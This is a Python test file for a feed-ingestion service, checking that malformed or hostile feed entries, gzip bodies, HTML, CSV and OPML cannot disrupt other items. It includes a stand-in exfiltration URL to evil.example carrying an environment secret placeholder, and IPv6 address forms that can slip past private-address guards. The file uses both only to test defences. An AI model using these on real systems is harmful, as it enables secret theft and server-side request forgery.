"""Findings of a review: a bad entry, header, body, list or redirect must not affect anything else."""

from __future__ import annotations

import gzip
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from schemas.article import ContentType
from schemas.feed import Columns, Feed
from services.producer.body import Body, BodyError
from services.producer.feeds.lists import children_of
from services.producer.feeds.poll import file_signature, require_expected
from services.producer.feeds.state import ChildFeed, FeedState
from services.producer.fetch.client import Failure, FetchError
from services.producer.fetch.guard import is_allowed
from services.producer.ledger.articles import make_raw_article
from services.producer.ledger.quarantine import keep, safe_name
from services.producer.ledger.store import Identified
from services.producer.sources import Entry, Problem, SourceError, SourceOptions, open_source
from services.producer.sources.base import ProblemKind
from services.producer.sources.document_file import with_text
from services.producer.sources.documents import Document, entry_hash
from services.producer.sources.formats import parse_document
from services.producer.sources.html import clean_fragment, nesting

NOW = datetime(2026, 11, 24, 12, tzinfo=UTC)
GOOD = "<item><guid>good</guid><title>Good</title></item>"
RSS = "<rss version='2.0'><channel>{}" + GOOD + "</channel></rss>"
HOSTILE = {
    "half an emoji": "<item><guid>x</guid><title>&#55357;&#56832; hi</title><category>&#55357;</category></item>",
    "a control character in a title of tags": "<item><guid>x</guid><title>&lt;p&gt;a&#11;b&lt;/p&gt;</title></item>",
    "half an emoji in text": "<item><guid>&#55357;</guid><description>&#55357; text</description></item>",
    "a date of the year 1": "<item><guid>x</guid><title>t</title><pubDate>0001-01-01T00:00:00+01:00</pubDate></item>",
}


def parse(text: str) -> list[Entry | Problem]:
    return parse_document(Document("https://e.org/f", text.encode()), "s", NOW).items


@pytest.mark.parametrize("item", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_entry_does_not_take_its_neighbour(item: str) -> None:
    found = parse(RSS.format(item))
    assert "good" in [entry.guid for entry in found]
    for entry in map(with_text, found):
        entry.guid.encode()
        if isinstance(entry, Entry):
            make_raw_article(
                entry, "9f1c3f0e-5a7b-5c3d-8e2f-1a2b3c4d5e6f", Identified(1, "0" * 64, ()), NOW
            ).model_dump_json()


@pytest.mark.parametrize("field", ["title", "content_html", "content_text", "id", "date_published"])
def test_a_hostile_json_item_does_not_take_its_neighbour(field: str) -> None:
    value = "0001-01-01T00:00:00+01:00" if field == "date_published" else "\\ud83d half"
    bad = f'{{"id": "bad", "content_text": "x", "{field}": "{value}"}}'
    found = parse(
        f'{{"version": "https://jsonfeed.org/version/1.1", "items": [{bad}, {{"id": "good", "title": "t"}}]}}'
    )
    assert "good" in [item.guid for item in found]
    for item in found:
        item.guid.encode()


def test_a_date_that_has_no_utc_is_refused_as_invalid() -> None:
    first = datetime.fromisoformat("0001-01-01T00:00:00+01:00")
    entry = Entry("s", "g", "text", ContentType.TEXT, published_at=first)
    with pytest.raises(ValidationError, match="years 1 to 9999"):
        make_raw_article(entry, "9f1c3f0e-5a7b-5c3d-8e2f-1a2b3c4d5e6f", Identified(1, "0" * 64, ()), NOW)


def test_many_empty_gzip_members_are_refused_soon() -> None:
    started = time.monotonic()
    with pytest.raises(BodyError, match="members"):
        Body("gzip", 10**7).add(gzip.compress(b"") * 5000)
    assert time.monotonic() - started < 20, "79 s before"


def test_deep_html_becomes_text() -> None:
    deep = "<div>" * 50_000 + "words" + "</div>" * 50_000
    assert nesting(deep) == 50_000
    assert clean_fragment(deep) == "words"
    assert nesting("<p>a<p>b<br><img>" * 1000) == 0


def test_a_broken_json_feed_of_many_items_is_read_in_a_line() -> None:
    started = time.monotonic()
    parse('{"items": [' + "1," * 100_000)
    assert time.monotonic() - started < 20, "quadratic before"


def test_variables_are_never_taken_from_what_others_write(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_OF_OURS", "s3cret")
    outline = '<outline text="x" xmlUrl="https://evil.example/?t=${SECRET_OF_OURS}"/>'
    parsed = parse_document(
        Document("https://e.org/", f'<opml version="2.0"><body>{outline}</body></opml>'.encode()), "s", NOW
    )
    assert "${" not in parsed.children[0].url
    state = FeedState(children=(ChildFeed(url=parsed.children[0].url),))
    (child,) = children_of(Feed(id="l", url="https://e.org/opml"), state)
    assert "${" not in (child.url or "")


def test_a_web_page_is_no_feed_that_was_one_before() -> None:
    page = parse_document(Document("https://e.org/", b"<html><body><p>Consent?</p></body></html>"), "s", NOW)
    plain, stated = Feed(id="f", url="https://e.org/"), Feed(id="f", url="https://e.org/", type="feed")
    for feed, state in ((plain, FeedState(format="rss20")), (stated, FeedState())):
        with pytest.raises(FetchError) as caught:
            require_expected(feed, state, page)
        assert caught.value.failure is Failure.UNREADABLE
    require_expected(plain, FeedState(), page)
    require_expected(Feed(id="f", url="https://e.org/", type="page"), FeedState(format="rss20"), page)


def test_reasons_hold_no_half_characters() -> None:
    state = FeedState(error=FetchError(Failure.CLIENT, "404 Non trouv\udce9").reason)
    assert FeedState.model_validate_json(state.model_dump_json()) == state


@pytest.mark.parametrize("address", ["fec0::1", "64:ff9b:1::7f00:1", "::127.0.0.1", "::ffff:0:127.0.0.1"])
def test_old_forms_of_private_addresses_are_refused(address: str) -> None:
    assert not is_allowed(address, ())


def test_names_in_quarantine_are_short_and_their_own(tmp_path: Path) -> None:
    problems = [
        Problem("s", guid, ProblemKind.TOO_LARGE, "", data=b"x") for guid in ("a/b", "a_b", "ж" * 1000, "\udce9")
    ]
    names = {safe_name(problem) for problem in problems}
    assert len(names) == 4
    for problem in problems:
        assert Path(keep(problem, tmp_path)).exists()


def test_a_changed_column_map_reads_a_file_again(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("x")
    before, after = Feed(id="f", path="a.csv"), Feed(id="f", path="a.csv", columns=Columns(content="body"))
    assert file_signature(path, before) == file_signature(path, before) != file_signature(path, after)


def test_a_corrected_date_of_a_row_and_a_changed_page_of_a_sitemap_are_edits() -> None:
    def row(day: int) -> Entry:
        return Entry("s", "g", "text", ContentType.TEXT, published_at=NOW.replace(day=day))

    assert entry_hash(row(1)) != entry_hash(row(2))
    url = "<urlset><url><loc>https://e.org/1</loc><news><title>T</title></news><lastmod>2026-11-{}</lastmod></url></urlset>"
    first, second = (parse(url.format(day))[0] for day in (20, 21))
    assert isinstance(first, Entry)
    assert isinstance(second, Entry)
    assert entry_hash(first) != entry_hash(second)


def test_a_folder_that_is_moved_in_is_read_with_its_old_files(tmp_path: Path) -> None:
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (outside / "a.txt").write_text("Text.")
    time.sleep(0.05)
    since = time.time()
    time.sleep(0.05)
    outside.rename(root / "inside")
    options = SourceOptions(None, 1000, changed_since=since)
    assert [entry.guid for entry in open_source(root, options).entries()] == ["inside/a.txt"]


@pytest.mark.parametrize(("name", "text"), [("a.csv", '"guid"x,content\n1,2\n'), ("a.csv", "")])
def test_a_csv_with_an_odd_header_says_so(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    with pytest.raises(SourceError):
        list(open_source(tmp_path / name, SourceOptions(None, 1000)).entries())


def test_csv_under_another_name_is_read(tmp_path: Path) -> None:
    path: Any = tmp_path / "a.txt"
    path.write_text("guid,content\n1,Words.\n")
    (entry,) = open_source(path, SourceOptions(None, 1000), Feed(id="f", path="a.txt", type="csv").type).entries()
    assert isinstance(entry, Entry)
